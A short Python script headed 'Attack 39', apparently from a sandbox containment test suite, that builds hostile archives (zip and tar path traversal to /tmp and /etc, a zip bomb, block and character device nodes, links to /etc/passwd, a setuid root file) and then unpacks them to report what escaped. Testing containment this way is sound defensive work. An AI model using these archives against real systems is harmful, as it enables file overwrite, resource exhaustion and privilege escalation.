"""Attack 39: archives that unpack to where they should not, or to more than there is room for.

With an argument: unpacks them with the usual tools, inside the cell, and says what came of it.
"""
import io
import os
import subprocess
import sys
import tarfile
import zipfile


def member(name, **fields):
    info = tarfile.TarInfo(name)
    for field, value in fields.items():
        setattr(info, field, value)
    return info


def make():
    with zipfile.ZipFile("slip.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../../tmp/slipped.txt", "slipped")
        archive.writestr("/etc/slipped.txt", "slipped")
        archive.writestr("harmless.txt", "harmless")
    with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("zeros.txt", "w", force_zip64=True) as file:
            for _ in range(101):
                file.write(bytes(1 << 20))
    with tarfile.open("slip.tar.gz", "w:gz") as archive:
        archive.addfile(member("../../slipped.txt", size=7), io.BytesIO(b"slipped"))
        archive.addfile(member("/etc/slipped.txt", size=7), io.BytesIO(b"slipped"))
        archive.addfile(member("null", type=tarfile.CHRTYPE, devmajor=1, devminor=1, mode=0o666))
        archive.addfile(member("disk", type=tarfile.BLKTYPE, devmajor=8, devminor=0, mode=0o666))
        archive.addfile(member("passwd.txt", type=tarfile.SYMTYPE, linkname="/etc/passwd"))
        archive.addfile(member("hard.txt", type=tarfile.LNKTYPE, linkname="/etc/passwd"))
        archive.addfile(member("root.sh", mode=0o6755, uid=0, gid=0, size=2), io.BytesIO(b"id"))
        archive.addfile(member("harmless.txt", size=8), io.BytesIO(b"harmless"))


if len(sys.argv) == 1:
    make()
else:
    print(sorted(os.listdir(".")))
    subprocess.run(["tar", "-xpPf", "slip.tar.gz"], stderr=subprocess.DEVNULL, check=False)
    os.makedirs("zip", exist_ok=True)
    zipfile.ZipFile("slip.zip").extractall("zip")
    print([path for path in ("/etc/slipped.txt", "/slipped.txt", "/tmp/slipped.txt", "null", "disk",
                             "hard.txt")
           if os.path.lexists(path)])
    try:
        zipfile.ZipFile("bomb.zip").extractall("bomb")
    except OSError as error:
        print(error.strerror)
    print(oct(os.stat("root.sh").st_mode & 0o7777), os.stat("root.sh").st_uid == os.getuid())
